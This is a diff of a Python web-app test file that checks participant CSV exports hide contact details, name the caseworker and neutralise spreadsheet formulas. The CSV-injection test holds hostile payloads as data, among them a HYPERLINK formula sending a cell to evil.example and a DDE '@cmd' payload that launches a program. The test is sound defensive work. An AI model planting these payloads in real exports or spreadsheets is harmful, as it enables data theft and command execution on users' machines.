@@ -89,18 +89,18 @@ def test_workers_and_leads_cannot_download_reports(client, world, login_as):
     assert page.status_code == 200 and "Download the participant list (personal data)" in page.get_data(as_text=True)
 
 
-def test_the_participant_list_leaves_out_contact_details_after_consent_is_withdrawn(app, client, world, login_as):
-    from outreach.models import ConsentRecord
+def test_the_participant_list_holds_no_contact_details_and_names_whom_to_ask(app, client, world, login_as):
+    """Need to know: a manager's list names the caseworker, who (with the lead and admins) sees contact details."""
     from tests.test_participants import signed_up
     login_as("worker")
-    pid = signed_up(client, world, email="dee@example.org")
-    contact = app.extensions["sqlalchemy"].session.scalar(
-        select(ConsentRecord).where(ConsentRecord.participant_id == pid, ConsentRecord.kind == "contact"))
-    client.post(f"/participants/{pid}/consents/{contact.id}/withdraw", data={"csrf_token": client.csrf})
+    signed_up(client, world, email="dee@example.org")  # with consent to contact
     login_as("manager")
     text = client.post("/reports/participants.csv", data={"csrf_token": client.csrf}).get_data(as_text=True)
-    assert "Dee" in text and "07700900123" not in text and "dee@example.org" not in text
-    assert "(no consent to contact)" in text
+    assert "Dee" in text and "07700900123" not in text and "07700 900123" not in text
+    assert "dee@example.org" not in text
+    header, row = [r for r in csv.reader(io.StringIO(text))][1:3]
+    assert "phone" not in header and "email" not in header
+    assert row[header.index("caseworker")] == world["worker"].name
 
 
 # What a spreadsheet runs as a formula when a cell starts with it (OWASP, CSV injection).
@@ -116,7 +116,8 @@ def test_every_csv_export_is_known_to_the_formula_test(app):
 def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, login_as):
     from tests.test_participants import signed_up
     payloads = {"estate": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "first": "+SUM(1+1)",
-                "last": "@cmd|' /C calc'!A0", "address": "\t=1+2", "postcode": "\r-3+4", "phone": "+447700900123"}
+                "last": "@cmd|' /C calc'!A0", "address": "\t=1+2", "postcode": "\r-3+4", "phone": "+447700900123",
+                "caseworker": "-2+3 Worker"}
     world["estate"].name = payloads["estate"]
     world["door"].address_line1, world["door"].postcode = payloads["address"], payloads["postcode"]
     db.session.commit()
@@ -127,6 +128,8 @@ def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, log
     assert client.post(f"/participants/{pid}/stage", data={
         "csrf_token": client.csrf, "stage": "job_started", "occurred_on": today.date().isoformat(),
         "hours_per_week": "16", "evidence": "payslip"}).status_code == 303
+    world["worker"].name = payloads["caseworker"]  # who signed them up is their caseworker, named in the list
+    db.session.commit()
     login_as("manager")
     for endpoint, method in CSV_EXPORTS.items():
         url = app.url_map.bind("localhost").build(endpoint)
@@ -138,7 +141,7 @@ def test_no_csv_export_hands_a_spreadsheet_a_formula(app, db, client, world, log
             assert not cell.startswith(FORMULA_STARTS), (endpoint, cell)
     personal = client.post("/reports/participants.csv", data={"csrf_token": client.csrf})
     cells = [cell for row in rows(personal) for cell in row]
-    for key in ("first", "last", "address", "postcode", "phone"):
+    for key in ("first", "last", "address", "postcode", "caseworker"):
         assert "'" + payloads[key] in cells, key
 
 
